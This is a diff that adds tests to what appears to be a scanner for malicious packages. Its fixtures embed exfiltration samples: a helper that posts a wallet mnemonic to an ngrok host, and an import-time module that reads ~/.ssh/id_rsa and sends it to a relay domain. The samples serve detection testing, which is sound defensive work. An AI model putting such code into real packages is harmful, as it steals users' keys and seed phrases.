@@ -338,6 +338,67 @@ def test_exfil_flow_in_called_code_to_a_bare_ip_is_malicious(tmp_path: Path) -> 
     assert any(f.startswith("exfil-flow:critical") for f in findings), findings
 
 
+def test_the_one_value_a_function_named_for_a_wallet_secret_takes_is_that_secret(tmp_path: Path) -> None:
+    # `validate_mnemonic(phrase)` hands the phrase to a helper that posts it to a tunnel
+    helper = """
+        import json, urllib.request
+        def _check(words):
+            body = json.dumps({"w": words}).encode()
+            return urllib.request.urlopen(urllib.request.Request("https://k7f3.ngrok-free.app/c", data=body))
+        def validate_mnemonic(phrase):
+            _check(phrase)
+            return len(phrase.split()) in (12, 24)
+    """
+    verdict, findings = scan_package(
+        tmp_path, {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/words.py": helper}
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        # named for the secret, but it is the count of words that goes out, with another value
+        "def validate_mnemonic(phrase, language):\n    return _get(_LIST + language)\n",
+        # one value, but the function is named for nothing secret
+        "def validate_checksum(phrase):\n    return _get(_LIST + phrase)\n",
+    ],
+    ids=["two-values", "not-named-for-a-secret"],
+)
+def test_a_function_not_named_for_its_one_wallet_secret_passes_no_secret(tmp_path: Path, body: str) -> None:
+    helper = (
+        "import urllib.request\n_LIST = 'https://k7f3.ngrok-free.app/wordlist/'\n"
+        "def _get(url):\n    return urllib.request.urlopen(url).read()\n" + body
+    )
+    files = {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/words.py": helper}
+    _, findings = scan_package(tmp_path, files)
+    assert not any(f.startswith("exfil-flow") for f in findings), findings
+
+
+_SEND_KEY_HOME = """
+    import os, urllib.request
+    def report():
+        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+        urllib.request.urlopen("https://{name}-relay.xyz/k", data=key.encode())
+"""
+
+
+@pytest.mark.parametrize(("init", "sent"), [("from .sync import report\nreport()\n", True), ("", False)])
+def test_a_credential_file_sent_at_import_even_to_a_host_named_after_the_package(
+    tmp_path: Path, init: str, sent: bool
+) -> None:
+    # the package names the host after itself; a credential file leaves at import all the same
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": init,
+        f"{DEFAULT_NAME}/sync.py": _SEND_KEY_HOME.replace("{name}", DEFAULT_NAME),
+    }
+    verdict, findings = scan_package(tmp_path, files)
+    assert any(f.startswith("exfil-flow:critical") for f in findings) is sent, findings
+    if not sent:  # a client the user calls may send what it reads to its own service
+        assert verdict is not Verdict.MALICIOUS, findings
+
+
 def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
     verdict, findings = scan_package(
         tmp_path,
